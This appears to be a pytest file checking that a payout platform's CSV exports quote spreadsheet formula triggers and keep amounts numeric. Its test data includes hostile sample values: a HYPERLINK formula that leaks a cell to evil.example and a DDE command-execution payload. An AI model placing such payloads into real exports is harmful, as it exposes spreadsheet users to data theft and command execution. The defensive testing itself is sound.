"""Every CSV the foundry writes is safe to open in a spreadsheet: text that a spreadsheet would run as
a formula is written with a leading quote, while numbers (negative amounts included) stay numbers."""

from __future__ import annotations

import csv
import io
import uuid

from sqlalchemy import update

from foundry.catalog.models import Contributor
from foundry.csv_export import safe_cell, write_csv
from foundry.payouts import service as payouts_service
from tests.generation.conftest import ADMIN
from tests.generation.test_generation_api import generate
from tests.payouts.test_statements import AFTER_MONTH_END, NEXT_MONTH, THIS_MONTH, artists  # noqa: F401

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=1+1", "@SUM(A1:A9)"]
HOSTILE_IDENTITIES = ["+1", "-1+2", "\t=cmd|' /C calc'!A0"]


def test_formula_triggers_are_quoted_and_numbers_are_not():
    assert [safe_cell(v) for v in ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "\nx"]] == [
        "'=1+1", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", "'\nx"]
    assert [safe_cell(v) for v in [-5, 0, 42, None, True, "Ada", "a=b", "1-2"]] == [-5, 0, 42, "", "true", "Ada",
                                                                                   "a=b", "1-2"]
    document = write_csv(["name", "amount"], [["-1+2", -7], ["=1+1", 3]])
    assert list(csv.reader(io.StringIO(document))) == [["name", "amount"], ["'-1+2", "-7"], ["'=1+1", "3"]]


def test_payout_batch_and_statements_neutralise_hostile_names_and_identities(client, customer, served_model, sessions,
                                                                            artists):  # noqa: F811
    renamed = {}
    with sessions() as session, session.begin():
        for (display, (contributor_id, _)), name, identity in zip(sorted(artists.items()), HOSTILE_NAMES,
                                                                  HOSTILE_IDENTITIES, strict=True):
            session.execute(update(Contributor).where(Contributor.id == contributor_id)
                            .values(display_name=name, payout_identity=identity))
            renamed[str(contributor_id)] = (name, identity, display)
    first = generate(client, customer, served_model, seed=1).json()
    generate(client, customer, served_model, seed=2)
    with sessions() as session, session.begin():
        payouts_service.close_period(session=session, period=THIS_MONTH, closed_by="t", threshold=0,
                                     now=AFTER_MONTH_END)

    response = client.get(f"/v1/payout-periods/{THIS_MONTH}/batch.csv", headers=ADMIN)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 3
    for row in rows:
        name, identity, _ = renamed[row["contributor_id"]]
        assert (row["display_name"], row["payout_identity"]) == ("'" + name, "'" + identity)
        for column in ("carried_in", "earned", "payable", "carried_out"):
            int(row[column])  # numbers, not quoted text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in csv.reader(io.StringIO(response.text))
                   for cell in row)

    # a refund after the close is a negative amount in next month's statement: still a number
    assert client.post(f"/v1/generations/{first['id']}/refund?reason=r", headers=ADMIN).status_code == 200
    _, headers = artists["Artist 0"]
    statement = client.get(f"/v1/me/statements/{NEXT_MONTH}.csv", headers=headers)
    amounts = [int(row["amount"]) for row in csv.DictReader(io.StringIO(statement.text))]
    assert amounts and all(amount < 0 for amount in amounts)
    assert uuid.UUID(next(csv.DictReader(io.StringIO(statement.text)))["generation_id"]) == uuid.UUID(first["id"])
